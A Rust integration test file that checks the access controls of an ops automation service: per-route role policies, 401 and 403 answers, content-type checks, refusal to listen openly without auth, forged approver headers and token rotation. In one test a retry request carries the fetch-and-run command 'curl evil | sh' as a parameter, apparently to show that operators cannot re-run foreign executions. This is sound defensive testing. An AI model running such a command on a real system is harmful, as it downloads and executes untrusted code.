//! Issue 13 (access control), the auth part, against the real `whale run --stages all`, a real
//! nats-server, Redis and a StackStorm emulator: every route the source declares has a policy,
//! and each route answers 401 without credentials, 403 to the wrong role and lets the right
//! role through; non-loopback listening without auth is refused; JSON endpoints refuse other
//! content types (415); the approver recorded is the authenticated principal.

use std::collections::BTreeSet;
use std::path::Path;
use std::time::Duration;

use serde_json::{json, Value};
use whale_kernel::auth::Role;
use whale_kernel::testkit::RedisServer;

use crate::harness::*;

const TOKENS: [(&str, Role, &str); 4] = [
    ("alertmanager", Role::Producer, "producer-token-0123456789"),
    ("dashboard", Role::Viewer, "viewer-token-0123456789"),
    ("oncall-op", Role::Operator, "operator-token-0123456789"),
    ("platform-admin", Role::Admin, "admin-token-0123456789"),
];

fn token(role: Role) -> &'static str {
    TOKENS.iter().find(|t| t.1 == role).map(|t| t.2).unwrap()
}

/// A role that does not satisfy `need`.
fn wrong_role(need: &str) -> Role {
    match need {
        "producer" => Role::Viewer,
        "viewer" => Role::Producer,
        "operator" => Role::Viewer,
        _ => Role::Operator,
    }
}

/// `(method, route)` for every `.route("PATH", get(..).post(..))` in the server's source
/// (kernel, stages and the binary's own `src/`): what the binary's router actually declares.
fn declared_routes() -> BTreeSet<(String, String)> {
    let mut files = Vec::new();
    collect_rs(&repo().join("crates/kernel/src"), &mut files);
    collect_rs(&repo().join("src"), &mut files);
    for stage in std::fs::read_dir(repo().join("stages")).unwrap() {
        collect_rs(&stage.unwrap().path().join("src"), &mut files);
    }
    let mut out = BTreeSet::new();
    for f in files {
        let text = std::fs::read_to_string(&f).unwrap();
        let mut rest = text.as_str();
        while let Some(i) = rest.find(".route(") {
            rest = &rest[i + ".route(".len()..];
            let args = rest.trim_start();
            let Some(lit) = args.strip_prefix('"') else {
                continue;
            };
            let Some(end) = lit.find('"') else { continue };
            let path = &lit[..end];
            let after = lit[end + 1..].trim_start();
            let Some(methods) = after.strip_prefix(',') else {
                continue; // `clusters.route("east")`: not a route registration
            };
            let mut depth = 1;
            let mut stop = methods.len();
            for (i, c) in methods.char_indices() {
                match c {
                    '(' => depth += 1,
                    ')' => {
                        depth -= 1;
                        if depth == 0 {
                            stop = i;
                            break;
                        }
                    }
                    _ => {}
                }
            }
            let m = &methods[..stop];
            for verb in ["get", "post", "put", "delete", "patch"] {
                let pat = format!("{verb}(");
                let found = m.match_indices(&pat).any(|(i, _)| {
                    i == 0
                        || !m[..i]
                            .chars()
                            .last()
                            .is_some_and(|c| c.is_alphanumeric() || c == '_')
                });
                if found {
                    out.insert((verb.to_uppercase(), path.to_owned()));
                }
            }
        }
    }
    out
}

fn collect_rs(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return;
    };
    for e in rd.flatten() {
        let p = e.path();
        if p.is_dir() {
            collect_rs(&p, out);
        } else if p.extension().is_some_and(|x| x == "rs") {
            out.push(p);
        }
    }
}

fn concrete(route: &str) -> String {
    let action = if route.starts_with("/v1/executions") {
        "cancel"
    } else {
        "approve"
    };
    route
        .replace("{id}", "t-none")
        .replace("{action}", action)
        .replace("{name}", "alertmanager")
        .replace("{file}", "console.css")
        .replace("{lang}", "en")
}

async fn call(
    http: &reqwest::Client,
    env: &Env,
    method: &str,
    route: &str,
    bearer: Option<&str>,
) -> (u16, Value) {
    let url = env.http(&concrete(route));
    let mut req = match method {
        "GET" => http.get(&url),
        "POST" => http.post(&url),
        m => panic!("no test request for method {m}"),
    };
    if let Some(t) = bearer {
        req = req.header("authorization", format!("Bearer {t}"));
    }
    if method == "POST" {
        let body = if route == "/v1/events" {
            json!({"event_type": "generic", "detail": {"message": "auth walk"}})
        } else {
            json!({"id": "t-none", "decision": "approve"})
        };
        req = req
            .header("content-type", "application/json")
            .body(body.to_string());
    }
    let r = req.send().await.unwrap();
    let code = r.status().as_u16();
    let body = r.json::<Value>().await.unwrap_or(Value::Null);
    (code, body)
}

/// Whether the auth layer refused (as opposed to a handler answering 403 on its own, as an
/// unsigned approval link does).
fn layer_refused(code: u16, body: &Value) -> bool {
    code == 401 || (code == 403 && body.get("needs_role").is_some())
}

struct Stack {
    env: Env,
    _redis: RedisServer,
    st2: Emulator,
    _dir: tempfile::TempDir,
    _w: Worker,
}

async fn stack(http_token: bool) -> Stack {
    let redis = RedisServer::start();
    let st2 = Emulator::start(&["--any-action"]);
    let dir = tempfile::tempdir().unwrap();
    let mut env = Env::new();
    if http_token {
        env.set("WHALE_HTTP_TOKEN", "legacy-admin-token-0123");
    }
    env.prepare_pipeline(
        dir.path(),
        &tokens_toml(&TOKENS),
        &redis.url(),
        &st2.url,
        &[],
    );
    let w = env.run("all");
    Stack {
        env,
        _redis: redis,
        st2,
        _dir: dir,
        _w: w,
    }
}

/// Issue 13 "one auth layer": the policy table covers every declared route, and each route
/// answers 401 / 403 / allowed by role.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_route_has_a_policy_and_answers_by_role() {
    let s = stack(true).await;
    let env = &s.env;
    let out = env.ok(&["auth", "routes", "--json"]);
    let table: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    let policy: BTreeSet<(String, String)> = table
        .iter()
        .map(|r| {
            (
                r["method"].as_str().unwrap().to_owned(),
                r["route"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let declared = declared_routes();
    assert!(declared.len() >= 14, "found routes: {declared:?}");
    let missing: Vec<_> = declared.difference(&policy).collect();
    assert!(
        missing.is_empty(),
        "routes without an access policy (add them to whale_kernel::auth::POLICIES): {missing:?}"
    );
    let stale: Vec<_> = policy.difference(&declared).collect();
    assert!(
        stale.is_empty(),
        "policies for routes that do not exist: {stale:?}"
    );

    let http = reqwest::Client::new();
    eprintln!(
        "{:<6} {:<36} {:<12} no-creds wrong-role right-role",
        "method", "route", "needs"
    );
    for row in &table {
        let (method, route, access) = (
            row["method"].as_str().unwrap(),
            row["route"].as_str().unwrap(),
            row["access"].as_str().unwrap(),
        );
        if let Some(need) = access.strip_prefix("console:") {
            console_walk(env, method, route, need).await;
            continue;
        }
        let (none_code, _) = call(&http, env, method, route, None).await;
        let link_get = access == "signed-link" && method == "GET";
        if access == "public" || link_get {
            let (code, body) = call(&http, env, method, route, None).await;
            assert!(
                !layer_refused(code, &body),
                "{method} {route} is {access}: {code} {body}"
            );
            eprintln!("{method:<6} {route:<36} {access:<12} {none_code:<8} -          -");
            continue;
        }
        let need = if access == "signed-link" {
            "operator"
        } else {
            access
        };
        assert_eq!(none_code, 401, "{method} {route} without credentials");
        let (bad, _) = call(&http, env, method, route, Some("not-a-known-token-123")).await;
        assert_eq!(bad, 401, "{method} {route} with an unknown token");
        let (wrong, body) = call(&http, env, method, route, Some(token(wrong_role(need)))).await;
        assert_eq!(
            wrong,
            403,
            "{method} {route} as {:?}: {body}",
            wrong_role(need)
        );
        assert_eq!(body["needs_role"], need, "{body}");
        let (right, body) = call(&http, env, method, route, Some(token(role_of(need)))).await;
        assert!(
            !layer_refused(right, &body),
            "{method} {route} as {need}: {right} {body}"
        );
        let (adm, body) = call(&http, env, method, route, Some(token(Role::Admin))).await;
        assert!(
            !layer_refused(adm, &body),
            "{method} {route} as admin: {adm} {body}"
        );
        let (legacy, body) = call(&http, env, method, route, Some("legacy-admin-token-0123")).await;
        assert!(
            !layer_refused(legacy, &body),
            "{method} {route} with WHALE_HTTP_TOKEN: {legacy} {body}"
        );
        eprintln!(
            "{method:<6} {route:<36} {:<12} {none_code:<8} {wrong:<10} {right}",
            if access == "signed-link" {
                "signed-link (operator without a signature)".to_owned()
            } else {
                need.to_owned()
            }
        );
    }
}

/// A console route (issue 17): a page without credentials redirects to sign-in (a form is
/// 401), an unknown token is 401, the wrong role 403 (`x-whale-needs-role`), the right one and
/// admin pass the layer. Forms carry a same-origin `Origin`, as a browser's do.
async fn console_walk(env: &Env, method: &str, route: &str, need: &str) {
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let url = env.http(&concrete(route));
    let origin = env.http("");
    let origin = origin.trim_end_matches('/');
    let send = |bearer: Option<&str>| {
        let mut req = match method {
            "GET" => http.get(&url),
            _ => http
                .post(&url)
                .header("origin", origin)
                .header("content-type", "application/x-www-form-urlencoded")
                .body("csrf=x"),
        };
        if let Some(t) = bearer {
            req = req.header("authorization", format!("Bearer {t}"));
        }
        req.send()
    };
    let r = send(None).await.unwrap();
    if method == "GET" {
        assert_eq!(r.status(), 303, "{method} {route} without credentials");
        let to = r.headers()["location"].to_str().unwrap();
        assert!(to.starts_with("/ui/sign-in?next="), "{to}");
    } else {
        assert_eq!(r.status(), 401, "{method} {route} without credentials");
    }
    let r = send(Some("not-a-known-token-123")).await.unwrap();
    assert_eq!(r.status(), 401, "{method} {route} with an unknown token");
    let wrong = wrong_role(need);
    let r = send(Some(token(wrong))).await.unwrap();
    assert_eq!(r.status(), 403, "{method} {route} as {wrong:?}");
    assert_eq!(r.headers()["x-whale-needs-role"], need);
    for who in [role_of(need), Role::Admin] {
        let r = send(Some(token(who))).await.unwrap();
        let refused = r.status() == 401 || r.headers().contains_key("x-whale-needs-role");
        assert!(!refused, "{method} {route} as {who:?}: {}", r.status());
    }
    eprintln!(
        "{method:<6} {route:<36} {:<12} console: 303/401, 403, passes",
        format!("console:{need}")
    );
}

fn role_of(name: &str) -> Role {
    serde_json::from_value(json!(name)).unwrap()
}

/// Issue 13 "JSON endpoints require application/json": a text/plain POST (what a cross-site
/// form can send) is refused with 415 before the handler; events keep NDJSON and CloudEvents
/// binary mode. Also "the principal is who": the approver recorded is the token's name, not a
/// `by` in the body or an `X-Forwarded-User` header.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn content_type_is_checked_and_the_approver_is_the_principal() {
    let s = stack(false).await;
    let env = &s.env;
    let http = reqwest::Client::new();
    let op = format!("Bearer {}", token(Role::Operator));
    let prod = format!("Bearer {}", token(Role::Producer));
    for (url, auth, body) in [
        (
            env.http("/v1/approvals"),
            &op,
            r#"{"id":"t-x","decision":"approve"}"#,
        ),
        (env.http("/v1/executions/t-x/cancel"), &op, "{}"),
        (env.http("/v1/approvals/t-x/approve"), &op, "{}"),
        (
            env.http("/v1/events"),
            &prod,
            r#"{"event_type":"generic","detail":{"message":"m"}}"#,
        ),
    ] {
        let r = http
            .post(&url)
            .header("authorization", auth)
            .header("content-type", "text/plain")
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 415, "{url}");
        let b: Value = r.json().await.unwrap();
        assert!(b["error"].as_str().unwrap().contains("text/plain"), "{b}");
    }
    let r = http
        .post(env.http("/v1/events"))
        .header("authorization", &prod)
        .header("content-type", "application/x-ndjson")
        .body("{\"event_type\":\"generic\",\"detail\":{\"message\":\"a\"}}\n")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 202);
    let r = http
        .post(env.http("/v1/events"))
        .header("authorization", &prod)
        .header("content-type", "text/plain")
        .header("ce-specversion", "1.0")
        .header("ce-type", "generic")
        .header("ce-source", "/ci")
        .header("ce-id", "ce-auth-1")
        .body("{\"message\":\"binary\"}")
        .send()
        .await
        .unwrap();
    assert_ne!(
        r.status(),
        415,
        "CloudEvents binary mode takes any content type"
    );

    // A held task, decided through the API with a forged name in the body and the header.
    let nats = env.connect().await;
    let mut t = crate::feedback::task("t-who", "disk-full-cleanup", "ops.clean_disk", &[], false);
    t["approval"] = json!({"timeout_ms": 600_000});
    crate::approvals::hold_task(&nats, &t).await;
    let pending = eventually(Duration::from_secs(30), || async {
        http.get(env.http("/v1/approvals/t-who"))
            .header("authorization", &op)
            .send()
            .await
            .is_ok_and(|r| r.status() == 200)
    })
    .await;
    assert!(pending, "the approval was stored");
    let r = http
        .post(env.http("/v1/approvals"))
        .header("authorization", &op)
        .header("x-forwarded-user", "ceo@corp")
        .header("remote-user", "ceo@corp")
        .json(&json!({"id": "t-who", "decision": "approve", "by": "security-team@corp"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let a: Value = http
        .get(env.http("/v1/approvals/t-who"))
        .header("authorization", &op)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(a["decided_by"], "oncall-op", "{a}");
}

/// Issue 13 "secure by default": no auth and a non-loopback address → `whale run` refuses to
/// start, naming the fix; `--insecure-no-auth` overrides with a warning; a token lifts it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn non_loopback_listen_without_auth_is_refused() {
    let env = Env::new();
    let port = free_port();
    let out = env
        .whale(&["run", "--stages", "ingest"])
        .env("WHALE_HTTP_ADDR", format!("0.0.0.0:{port}"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "started without auth on 0.0.0.0");
    assert!(
        err.contains("refusing to listen on 0.0.0.0") && err.contains("--insecure-no-auth"),
        "{err}"
    );

    let log = tempfile::NamedTempFile::new().unwrap();
    let child = env
        .whale(&["run", "--stages", "ingest", "--insecure-no-auth"])
        .env("WHALE_HTTP_ADDR", format!("0.0.0.0:{port}"))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::from(log.reopen().unwrap()))
        .spawn()
        .unwrap();
    let _w = Killed(child);
    assert!(
        ready(port, Duration::from_secs(30)).await,
        "--insecure-no-auth starts"
    );
    let text = std::fs::read_to_string(log.path()).unwrap();
    assert!(text.contains("NO authentication"), "{text}");

    let port2 = free_port();
    let child = env
        .whale(&["run", "--stages", "ingest"])
        .env("WHALE_HTTP_ADDR", format!("0.0.0.0:{port2}"))
        .env("WHALE_HTTP_TOKEN", "some-token-0123456789")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let _w2 = Killed(child);
    assert!(
        ready(port2, Duration::from_secs(30)).await,
        "with a token it starts"
    );
}

/// A process killed when the test ends.
struct Killed(std::process::Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Issue 13 "exec actions only on executions whale created": an operator cannot re-run an
/// execution whale has no record of (StackStorm is not called); an admin can.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn operators_act_only_on_executions_whale_created() {
    let s = stack(false).await;
    let http = reqwest::Client::new();
    let foreign: Value = http
        .post(format!("{}/api/v1/executions", s.st2.url))
        .header("St2-Api-Key", "k")
        .json(&json!({"action": "core.local", "parameters": {"cmd": "uptime"}}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let id = foreign["id"]
        .as_str()
        .expect("emulator execution id")
        .to_owned();
    let before = s.st2.created().await;
    let retry = |t: &'static str| {
        http.post(s.env.http(&format!("/v1/executions/{id}/retry")))
            .header("authorization", format!("Bearer {t}"))
            .json(&json!({"parameters": {"cmd": "curl evil | sh"}}))
            .send()
    };
    let r = retry(token(Role::Operator)).await.unwrap();
    assert_eq!(r.status(), 403);
    let body: Value = r.json().await.unwrap();
    assert!(
        body["error"]
            .as_str()
            .unwrap()
            .contains("not an execution whale created"),
        "{body}"
    );
    assert_eq!(s.st2.created().await, before, "StackStorm was not called");
    let r = retry(token(Role::Admin)).await.unwrap();
    assert_eq!(r.status(), 200, "admin may act on any execution");
    assert_eq!(
        s.st2.created().await,
        before + 1,
        "the admin's re-run reached StackStorm"
    );
}

/// Issue 13 "tokens stored hashed": `whale auth hash-token` prints an entry that, pasted into
/// whale.toml, makes the token that principal; the token itself is not in the output.
#[test]
fn hash_token_prints_an_entry_that_authenticates() {
    use std::io::Write as _;
    let run = |token: &str| {
        let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_whale"))
            .args([
                "auth",
                "hash-token",
                "--name",
                "grafana",
                "--role",
                "viewer",
            ])
            .env_remove("WHALE_CONFIG")
            .current_dir(repo())
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        c.stdin.take().unwrap().write_all(token.as_bytes()).unwrap();
        c.wait_with_output().unwrap()
    };
    let out = run("a-long-random-token-0123456789\n");
    assert!(out.status.success());
    let entry = String::from_utf8(out.stdout).unwrap();
    assert!(!entry.contains("a-long-random-token"), "{entry}");
    let cfg: whale_kernel::Config = toml::from_str(&entry).unwrap();
    let auth = whale_kernel::auth::Auth::from_config(&cfg).unwrap();
    let p = auth.principal("a-long-random-token-0123456789").unwrap();
    assert_eq!((p.name.as_str(), p.role), ("grafana", Some(Role::Viewer)));
    assert!(auth.principal("a-long-random-token-012345678").is_none());
    let short = run("short\n");
    assert!(!short.status.success(), "a short token is refused");
}

/// A token removed from `auth.tokens_file` is refused without a restart and a new one is known;
/// a broken file is logged and the tokens known before stay (docs/security.md "Rotating tokens
/// without a restart").
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tokens_file_changes_take_effect_without_a_restart() {
    const OLD: &str = "grafana-old-token-0123456789";
    const NEW: &str = "grafana-new-token-0123456789";
    const OPS: &str = "oncall-token-0123456789";
    let mut env = Env::new();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("tokens.toml");
    // Replaced as a mounted Secret is: the new text appears whole.
    let write = |tokens: &[(&str, Role, &str)], extra: &str| {
        let text = tokens_toml(tokens).replace("[[auth.tokens]]", "[[tokens]]") + extra;
        let tmp = dir.path().join("tokens.toml.new");
        std::fs::write(&tmp, text).unwrap();
        std::fs::rename(&tmp, &file).unwrap();
    };
    write(
        &[
            ("grafana", Role::Viewer, OLD),
            ("oncall", Role::Operator, OPS),
        ],
        "",
    );
    let cfg = dir.path().join("whale.toml");
    std::fs::write(
        &cfg,
        format!("[auth]\ntokens_file = {:?}\n", file.to_str().unwrap()),
    )
    .unwrap();
    env.set("WHALE_CONFIG", cfg.to_str().unwrap());
    env.prepare();
    let log = dir.path().join("run.log");
    let _w = env.run_logged("ingest", &log).await;
    let http = reqwest::Client::new();
    let status = |token: &'static str| {
        let (http, url) = (http.clone(), env.http("/metrics"));
        async move {
            let r = http.get(url).bearer_auth(token).send().await.unwrap();
            r.status().as_u16()
        }
    };
    assert_eq!(status(OLD).await, 200);
    assert_eq!(status(OPS).await, 200);
    assert_eq!(status(NEW).await, 401);

    // Rotation: the old grafana token out, a new one in; the operator's token untouched.
    write(
        &[
            ("grafana", Role::Viewer, NEW),
            ("oncall", Role::Operator, OPS),
        ],
        "",
    );
    let rotated = eventually(Duration::from_secs(10), || async {
        status(OLD).await == 401 && status(NEW).await == 200
    })
    .await;
    assert!(
        rotated,
        "the rotated file was not taken within 10 s: {}",
        std::fs::read_to_string(&log).unwrap_or_default()
    );
    assert_eq!(status(OPS).await, 200);

    // A broken file (a bad hash) is an error in the log; the tokens known before stay.
    let before = std::fs::read_to_string(&log).unwrap_or_default().len();
    write(
        &[("oncall", Role::Operator, OPS)],
        "[[tokens]]\nname = \"broken\"\nrole = \"viewer\"\nsha256 = \"not-hex\"\n",
    );
    let logged = eventually(Duration::from_secs(10), || async {
        std::fs::read_to_string(&log).unwrap_or_default()[before..]
            .contains("auth token \"broken\": sha256 must be 64 hex digits")
    })
    .await;
    let text = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(logged, "no error for the broken file: {text}");
    assert!(
        text[before..].contains("tokens known before stay in force"),
        "{text}"
    );
    assert_eq!(status(NEW).await, 200, "a broken file revoked nothing");
    assert_eq!(status(OPS).await, 200);

    // Fixed: only the operator's token is left.
    write(&[("oncall", Role::Operator, OPS)], "");
    let fixed = eventually(Duration::from_secs(10), || async {
        status(NEW).await == 401
    })
    .await;
    assert!(fixed, "the fixed file was not taken within 10 s: {text}");
    assert_eq!(status(OPS).await, 200);
    let text = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(
        text.contains("auth.tokens_file changed: these tokens are now known"),
        "{text}"
    );
    for secret in [OLD, NEW, OPS] {
        assert!(!text.contains(secret), "a token is in the log: {text}");
    }
}
